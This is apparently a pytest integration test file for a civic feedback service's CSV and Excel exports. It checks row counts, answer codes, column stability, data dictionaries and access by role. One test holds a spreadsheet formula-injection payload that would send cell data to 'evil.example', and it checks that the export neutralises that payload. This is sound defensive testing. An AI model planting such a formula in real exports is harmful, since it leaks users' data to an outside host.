import csv
import io
import secrets
from collections.abc import Iterator
from datetime import date
from typing import Any

import openpyxl
import pytest
from bs4 import BeautifulSoup

from citizenvoice.accounts.scope import Role
from citizenvoice.db import db
from citizenvoice.feedback.models import Exclusion
from citizenvoice.indicators import estimating, service_indicators, theme_tables
from citizenvoice.indicators.counting import CountingWorker
from citizenvoice.reporting import (
    comment_exports,
    comment_filters,
    comments,
    response_exports,
    shown_comments,
)
from tests.factories import AgencyFactory, CommentFactory, ReceiptFactory
from tests.integration.indicators.world import NOW, World, everything_definition
from tests.members import member_of, sign_in
from tests.pages import PageClient

FILES = ["comments.csv", "comments.xlsx", "responses.csv", "responses.xlsx"]


@pytest.fixture
def world(client: PageClient) -> World:
    """Two services with responses, comments and readings, looked at by an analyst."""
    world = World(5)
    world.send(150)
    for _ in range(25):
        world.exclude(world.random.choice([Exclusion.SPAM, Exclusion.TEST, Exclusion.DUPLICATE]))
    world.read_some(limit=60)
    sign_in(client, member_of(world.services[0].agency, Role.ANALYST))
    return world


def address(world: World, name: str, query: str = "") -> str:
    return f"/manage/services/{world.services[0].slug}/{name}{'?' if query else ''}{query}"


def table(client: PageClient, world: World, name: str, query: str = "") -> list[dict[str, Any]]:
    """Return the rows of a file, each by the names of its columns."""
    answer = client.get(address(world, name, query))
    assert answer.status_code == 200
    if name.endswith(".csv"):
        return list(csv.DictReader(io.StringIO(answer.data.decode("utf-8-sig"), newline="")))
    names, *rows = openpyxl.load_workbook(io.BytesIO(answer.data)).worksheets[0].values
    return [dict(zip(map(str, names), row, strict=True)) for row in rows]


def n_on_page(client: PageClient, world: World, name: str, query: str) -> int:
    """Return the number the page of the same filter says."""
    page = BeautifulSoup(client.get(address(world, name, query)).text, "html.parser")
    return int(page.select("main h2")[0].get_text().split()[0])


COMMENT_FILTERS = [
    "",
    "channel=website",
    "language=es",
    "sentiment=negative",
    "sentiment=unread",
    "theme=waiting",
    "theme=staff&sentiment=positive",
    "period=2026-02",
    "from=2026-01-25&to=2026-02-10&channel=in_person",
    "excluded=spam",
    "excluded=all",
    "rating=none",
    "theme=unknown",
]


@pytest.mark.parametrize("query", COMMENT_FILTERS)
def test_a_file_of_comments_has_as_many_rows_as_its_page_says(
    client: PageClient, world: World, query: str
) -> None:
    n = n_on_page(client, world, "comments", query)
    as_csv, as_xlsx = (table(client, world, f"comments.{kind}", query) for kind in ("csv", "xlsx"))

    assert len(as_csv) == len(as_xlsx) == n
    assert [row["comment_id"] for row in as_csv] == [str(row["comment_id"]) for row in as_xlsx]


@pytest.mark.parametrize(
    "query",
    ["", "channel=website", "language=es", "period=2026-02", "excluded=all", "excluded=test", "survey=none"],
)
def test_a_file_of_responses_has_as_many_rows_as_its_page_says(
    client: PageClient, world: World, query: str
) -> None:
    n = n_on_page(client, world, "responses", query)

    assert len(table(client, world, "responses.csv", query)) == n
    assert len(table(client, world, "responses.xlsx", query)) == n


def test_files_count_what_the_indicators_count(client: PageClient, world: World) -> None:
    db.session.commit()
    worker = CountingWorker(secrets.token_hex(8), patience=0)
    while worker.count_next(lambda: NOW):
        pass
    service, start, end = world.services[0].id, date(2026, 1, 25), date(2026, 2, 20)
    found = service_indicators.indicators_of(service)
    definition = found.main
    assert definition is not None
    figure = estimating.find_estimate(found, definition, start, end)
    themes = theme_tables.theme_table(found, start, end)
    period = "from=2026-01-25&to=2026-02-19"

    responses = table(client, world, "responses.csv", period)
    rows = table(client, world, "comments.csv", period)
    assert len(responses) == figure.n_responses > 0
    rated = [row for row in responses if row[definition.question or ""].isdigit()]
    assert len(rated) == figure.result.n
    assert len(rows) == themes.n_comments > 0
    for theme in themes.rows:
        assert sum(theme.key in row["themes"].split("|") for row in rows) == theme.n
    read = [int(row["sentiment"]) for row in rows if row["sentiment"]]
    assert tuple(read.count(value) for value in range(1, 6)) == themes.sentiment


def test_answers_are_codes_and_a_choice_has_three_states(client: PageClient, world: World) -> None:
    service = world.services[0]
    asked = {"overall": 1, "ease": "dk", "why_bad": ["ease"]}
    not_asked = {"overall": 5, "ease": 3}
    [first, second] = [
        world.send(
            1, service=service, answers=answers, n_sections=2, segments=segments, day=date(2026, 3, 19)
        )[0]
        for answers, segments in ((asked, {"sex": "f", "needs": ["sight"]}), (not_asked, {}))
    ]
    rows = {row["response_id"]: row for row in table(client, world, "responses.csv", "from=2026-03-19")}
    given = rows[str(first)]

    assert (given["overall"], given["ease"], given["speed"]) == ("1", "dk", "")
    assert [given[f"why_bad.{choice}"] for choice in ("ease", "speed", "staff")] == ["1", "0", "0"]
    assert (given["about_you.sex"], given["about_you.needs.sight"], given["about_you.needs.hearing"]) == (
        "f",
        "1",
        "0",
    )
    other = rows[str(second)]
    assert [other[f"why_bad.{choice}"] for choice in ("ease", "speed", "staff")] == ["", "", ""]
    assert [other[f"about_you.needs.{choice}"] for choice in ("sight", "hearing")] == ["", ""]
    assert (other["version"], other["survey"], other["service"]) == ("1", world.survey.slug, service.slug)
    assert (other["counted"], other["exclusion"], other["day"]) == ("1", "", "2026-03-19")


def test_a_workbook_keeps_answers_as_numbers(client: PageClient, world: World) -> None:
    rows = table(client, world, "responses.xlsx", "excluded=all")

    assert {type(row["overall"]) for row in rows} <= {int, type(None)}
    assert {row["exclusion"] for row in rows} >= {"spam", None}
    assert all(row["counted"] == (row["exclusion"] is None) for row in rows)


def test_a_new_version_keeps_the_columns_of_the_old_one(client: PageClient, world: World) -> None:
    world.send(3, service=world.services[0], version=world.versions[0])
    before = list(table(client, world, "responses.csv")[0])
    data = everything_definition()
    del data["sections"][0]["questions"][1]  # ease is no longer asked
    data["sections"][1]["questions"][0]["key"] = "pace"
    version = world.publish_again(data)
    [newest] = world.send(
        1, service=world.services[0], version=version, answers={"overall": 4, "pace": 2}, n_sections=2
    )
    rows = table(client, world, "responses.csv")
    row = next(row for row in rows if row["response_id"] == str(newest))

    assert set(before) < set(rows[0])
    assert set(rows[0]) - set(before) == {"pace"}
    assert (row["version"], row["ease"], row["pace"]) == ("2", "", "2")


def test_a_dictionary_says_what_every_column_and_code_means(client: PageClient, world: World) -> None:
    columns = list(table(client, world, "responses.csv")[0])
    meanings = table(client, world, "responses-dictionary.csv")

    assert list(dict.fromkeys(row["column"] for row in meanings)) == columns
    ease = {row["code"]: row["label"] for row in meanings if row["column"] == "ease"}
    assert ease == {"1": "1", "2": "2", "3": "3", "4": "4", "5": "5", "na": "N/A", "dk": "Don't know"}
    [speed] = [row for row in meanings if row["column"] == "why_bad.speed"]
    assert (speed["code"], speed["label"], speed["versions"]) == ("1", "speed", "1")
    second_sheet = openpyxl.load_workbook(io.BytesIO(client.get(address(world, "responses.xlsx")).data))[
        "columns"
    ]
    assert second_sheet.max_row == len(meanings) + 1
    described = {row["column"] for row in table(client, world, "comments-dictionary.csv")}
    assert described == set(comment_exports.COMMENT_COLUMNS) == set(table(client, world, "comments.csv")[0])


def test_what_people_wrote_cannot_run_in_a_spreadsheet(client: PageClient, world: World) -> None:
    receipt = ReceiptFactory.create(service_id=world.services[0].id, day=date(2026, 3, 19))
    written = '=HYPERLINK("http://evil.example/?"&A1,"look")'
    CommentFactory.create(receipt=receipt, text=written)

    for name in ("comments.csv", "comments.xlsx"):
        [row] = table(client, world, name, "from=2026-03-19")
        assert row["text"] == f"'{written}"


def test_a_file_for_older_spreadsheets_begins_with_a_mark(client: PageClient, world: World) -> None:
    marked, plain = (client.get(address(world, "comments.csv", query)) for query in ("bom=1", ""))

    assert marked.data == b"\xef\xbb\xbf" + plain.data
    assert marked.content_type == "text/csv; charset=utf-8"
    assert f"filename={world.services[0].slug}-comments.csv" in marked.headers["Content-Disposition"]


@pytest.mark.parametrize("name", FILES)
def test_a_file_is_read_in_parts_none_twice_or_left_out(
    client: PageClient, world: World, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    key = "comment_id" if name.startswith("comments") else "response_id"
    at_once = [row[key] for row in table(client, world, name, "excluded=all")]
    monkeypatch.setattr(response_exports, "AT_ONCE", 7)
    usual = comments.each_comment

    def in_sevens(wanted: comment_filters.CommentFilter) -> Iterator[shown_comments.ShownComment]:
        return usual(wanted, at_once=7)

    monkeypatch.setattr(comment_exports, "each_comment", in_sevens)

    assert [row[key] for row in table(client, world, name, "excluded=all")] == at_once
    assert len(set(at_once)) == len(at_once) > 14


@pytest.mark.parametrize("name", [*FILES, "responses", "responses-dictionary.csv", "comments-dictionary.csv"])
def test_only_analysts_of_the_agency_take_files_away(client: PageClient, world: World, name: str) -> None:
    sign_in(client, member_of(world.services[0].agency, Role.VIEWER))
    assert client.get(address(world, name)).status_code == 403
    sign_in(client, member_of(AgencyFactory.create(), Role.OWNER))
    assert client.get(address(world, name)).status_code == 404


def test_a_time_nobody_answered_in_gives_empty_files(client: PageClient, world: World) -> None:
    for name in FILES:
        assert table(client, world, name, "from=2030-01-01") == []
